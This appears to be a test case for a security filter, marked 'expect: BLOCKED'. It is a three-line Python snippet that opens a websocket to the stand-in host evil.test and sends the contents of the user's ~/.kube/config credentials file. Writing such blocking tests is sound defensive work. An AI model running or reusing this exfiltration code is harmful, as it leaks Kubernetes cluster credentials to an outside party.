# expect: BLOCKED
import websocket, os
ws = websocket.create_connection("ws://evil.test")
ws.send(open(os.path.expanduser("~/.kube/config")).read())
